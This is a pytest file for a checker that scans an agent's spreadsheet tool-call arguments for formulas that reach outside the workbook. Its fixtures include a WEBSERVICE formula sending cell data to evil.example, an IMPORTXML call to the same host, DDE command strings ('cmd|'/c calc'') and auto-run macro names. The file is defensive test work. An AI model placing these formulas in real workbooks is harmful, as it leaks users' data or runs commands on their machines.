"""What is looked at in a call's arguments, and how each is read."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from hub.tools.policy.arguments import MAX_CHECKED_CHARACTERS, MAX_DEPTH, MAX_FINDINGS, check_arguments
from hub.tools.policy.findings import Finding, Kind, excerpt
from hub.tools.policy.names import WorkbookNames

LEAK = '=WEBSERVICE("https://evil.example/?d="&A1)'


def told(tool: str, arguments: Mapping[str, Any]) -> list[tuple[str, Kind]]:
    return [(finding.path, finding.kind) for finding in check_arguments(tool, arguments)]


@pytest.mark.parametrize(
    ("tool", "arguments", "path"),
    [
        ("apply_formula", {"range": "A1", "formula": LEAK}, "$.formula"),
        ("apply_formula", {"range": "A1", "formula": LEAK[1:]}, "$.formula"),
        ("write_range", {"range": "A1:B2", "values": [["a", 1], [None, LEAK]]}, "$.values[1][1]"),
        ("write_range", {"range": "A1", "values": [[[["x", LEAK]]]]}, "$.values[0][0][0][1]"),
        ("write_range", {"range": "A1", "values": LEAK}, "$.values"),
        ("write_range", {"range": "A1", "values": [{"value": 1, "formula": LEAK[1:]}]}, "$.values[0].formula"),
        ("write_range", {"range": "A1", "values": [{LEAK: 1}]}, "$.values[0][" + json.dumps(LEAK) + "]"),
        ("write_range", {"range": "A1", "values": (("x", LEAK),)}, "$.values[0][1]"),
        ("create_named_range", {"name": "Tax", "range": LEAK}, "$.range"),
        ("create_named_range", {"name": "Tax", "range": "=Sheet1!A1+IMAGE(A1)"}, "$.range"),
        ("create_named_range", {"name": "Tax", "range": "[x.xlsx]S!A1"}, "$.range"),
        ("create_named_range", {"name": "Tax", "range_address": LEAK}, "$.range_address"),
        ("create_named_range", {"name": "Auto_Open", "range": "A1"}, "$.name"),
        ("create_named_range", {"name": "_xlnm.auto_close2", "range": "A1"}, "$.name"),
        ("create_named_range", {"name": LEAK, "range": "A1"}, "$.name"),
        ("format_range", {"range": "A1", "number_format": LEAK}, "$.number_format"),
        ("format_range", {"range": "A1", "conditional": [{"formula": LEAK}]}, "$.conditional[0].formula"),
        ("format_range", {"range": "A1", "rules": [{"formula1": LEAK[1:]}]}, "$.rules[0].formula1"),
        ("format_range", {"range": "A1", "font": {"color": LEAK}}, "$.font.color"),
        ("create_chart", {"data_range": "A1:B2", "chart_type": "bar", "title": LEAK}, "$.title"),
        ("create_chart", {"data_range": "[x.xlsx]S!A1", "chart_type": "bar"}, "$.data_range"),
        ("create_chart", {"data_range": "A1", "chart_type": "bar", "series": [{"name": LEAK}]}, "$.series[0].name"),
        ("insert_rows_columns", {"position": LEAK, "type": "rows"}, "$.position"),
        ("clear_range", {"range": "cmd|'/c calc'!A1"}, "$.range"),
        ("write_range", {"range": "A1", "values": [], "unheard of": LEAK}, '$["unheard of"]'),
        # unknown tools: any text may be anything
        ("paste", {"cells": {"deep": [[LEAK]]}}, "$.cells.deep[0][0]"),
        ("paste", {"csv": "a,b\n1," + LEAK}, "$.csv"),
        ("paste", {"csv": 'a,b\n1,"=IMPORTXML(""https://evil.example"",""//a"")"'}, "$.csv"),
        ("paste", {"csv": "a\t=LEAK(1)"}, "$.csv"),
        ("paste", {"csv": "a;=LEAK(1)"}, "$.csv"),
        ("paste", {"csv": "a,=cmd|'/c calc'!A1"}, "$.csv"),
        ("paste", {"csv": 'x,=1&"a,=WEBSERVICE("u")'}, "$.csv"),
        ("paste", {"code": "sheet.getRange('A1').formulas = [['=WEBSERVICE(1)']]"}, "$.code"),
        ("paste", {"rows": '[["\\u003dWEBSERVICE(1)"]]'}, "$.rows[0][0]"),
        ("write_range", {"range": "A1", "values": '[["\\u003dWEBSERVICE(1)"]]'}, "$.values[0][0]"),
        ("paste", {"refers_to": "Leak!A1+LEAK(1)"}, "$.refers_to"),
        ("paste", {LEAK: 1}, "$[" + json.dumps(LEAK) + "]"),
    ],
)
def test_formula_that_reaches_out_is_found_where_it_stands(tool: str, arguments: dict[str, Any], path: str) -> None:
    assert path in [where for where, _ in told(tool, arguments)]


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_range", {"range": "Sheet1!A1:B2", "include_formulas": True}),
        ("read_range", {"range": "Sales (2024) & more!A1"}),
        ("read_range", {"range": "TaxRate"}),
        ("read_range", {"range": "'It''s'!A:A"}),
        ("write_range", {"range": "A1", "values": [["x", 1, None, True, "'=WEBSERVICE(1)", "- item", "=SUM(A1)"]]}),
        ("apply_formula", {"range": "A1:A9", "formula": "=SUM(B1:B9)", "relative_references": True}),
        ("apply_formula", {"range": "A1:A9", "formula": "B1*2"}),
        ("create_named_range", {"name": "Tax", "range": "Sales Data!$A$1:$B$9"}),
        ("create_named_range", {"name": "Tax", "range": "='Sales Data'!$A$1"}),
        (
            "format_range",
            {"range": "A1", "number_format": '+0.0 "x";-0.0;@', "font": {"bold": True, "color": "#FF0000"}},
        ),
        ("format_range", {"range": "A1", "number_format": '[$-409]#,##0.00\\ "€"_-;-* (0)'}),
        ("create_chart", {"data_range": "A1:B9", "chart_type": "bar", "title": "Profit (net)", "position": "F5"}),
        ("clear_range", {"range": "A:C", "clear_type": "all"}),
        ("insert_rows_columns", {"position": "C", "type": "columns", "count": 2}),
        ("get_named_ranges", {"scope": "workbook"}),
        ("send_note", {"text": "Use WEBSERVICE(url), or = and - signs.\n- first\n- second", "to": ["ann"], "n": 1}),
        ("send_note", {"json": '{"a": ["=SUM(A1)", 1]}', "broken": "[not json", "empty": ""}),
        ("build", {"formula_type": "growth_rate"}),
    ],
)
def test_harmless_arguments_are_let_pass(tool: str, arguments: dict[str, Any]) -> None:
    assert told(tool, arguments) == []


def test_an_unknown_tool_that_reads_is_not_looked_at() -> None:
    assert check_arguments("find", {"text": LEAK}, access="read") == []
    assert check_arguments("find", {"text": LEAK}, access="write") != []


def test_edited_arguments_are_checked_as_they_would_run() -> None:
    proposed = {"range": "A1", "values": [["=SUM(B:B)"]]}
    assert check_arguments("write_range", proposed) == []
    edited = proposed | {"values": [["=SUM(B:B)+WEBSERVICE(A1)"]]}
    assert check_arguments("write_range", edited) == [
        Finding(
            "$.values[0][0]", "network", "WEBSERVICE", "WEBSERVICE fetches an address, and can send cells away in it"
        )
    ]


def test_names_of_the_workbook_settle_what_they_stand_for() -> None:
    call = {"range": "A1", "formula": "=Tax*Leak"}
    assert len(check_arguments("apply_formula", call)) == 2
    names = WorkbookNames({"Tax": "=0.19", "Leak": LEAK})
    assert [finding.found for finding in check_arguments("apply_formula", call, names=names)] == ["Leak"]


def test_findings_come_in_order_and_are_bounded() -> None:
    rows = [[f"=LEAK{n}X(1)", "x"] for n in range(100)]
    paths = [path for path, _ in told("write_range", {"range": "A1", "values": rows})]
    assert paths == [f"$.values[{n}][0]" for n in range(MAX_FINDINGS)]


def test_the_same_formula_is_read_once_and_found_everywhere() -> None:
    assert len(told("write_range", {"range": "A1", "values": [[LEAK, LEAK], [LEAK, 1]]})) == 3


def test_what_is_too_much_to_check_needs_approval() -> None:
    formulas = [f"={'1+' * 10_000}{n}" for n in range(30)]
    assert len("".join(formulas)) > MAX_CHECKED_CHARACTERS
    assert [kind for _, kind in told("write_range", {"range": "A1", "values": [formulas]})] == ["too_long"]
    assert told("write_range", {"range": "A1", "values": [["=" + "1" * 40_000]]}) == [("$.values[0][0]", "too_long")]
    assert told("write_range", {"range": "A1", "values": [["1" * 40_000]]}) == []


def test_what_is_nested_too_deep_needs_approval() -> None:
    deep: Any = LEAK
    for _ in range(50_000):
        deep = [deep]
    assert [kind for _, kind in told("write_range", {"range": "A1", "values": deep})] == ["too_long"]
    text = "[" * 100_000 + "]" * 100_000
    assert [kind for _, kind in told("paste", {"x": text})] == ["too_long"]
    shallow: Any = LEAK
    for _ in range(MAX_DEPTH - 2):
        shallow = [shallow]
    assert [kind for _, kind in told("write_range", {"range": "A1", "values": shallow})] == ["network"]


def test_a_line_of_an_unknown_text_ends_the_search_when_there_is_enough() -> None:
    text = "\n".join(f"=LEAK{n}X(1)" for n in range(100))
    assert len(told("paste", {"x": text})) == MAX_FINDINGS


def test_excerpts_are_short_and_show_what_is_hidden() -> None:
    assert excerpt("a\u200bb") == "a\N{REPLACEMENT CHARACTER}b"
    assert len(excerpt("x" * 1_000)) == 80
